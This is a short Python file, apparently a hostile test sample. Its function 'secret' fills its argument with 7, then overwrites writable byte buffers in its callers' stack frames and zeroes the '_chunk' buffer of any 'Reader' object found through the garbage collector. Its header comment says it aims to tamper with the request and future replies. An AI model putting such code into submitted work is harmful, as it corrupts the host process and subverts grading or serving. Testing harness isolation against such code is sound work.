# writes into the bytes of the request behind its arguments, and of the replies to come; secret failed; process, frames
import gc
import sys

from known import *


def secret(x):
    x.fill_(7)
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if type(value) in (bytearray, memoryview) and len(value) and not memoryview(value).readonly:
                memoryview(value).cast("B")[:] = b"\xff" * memoryview(value).nbytes
        frame = frame.f_back
    for value in gc.get_objects():
        if type(value).__name__ == "Reader":
            value._chunk[:] = bytes(len(value._chunk))
    return x
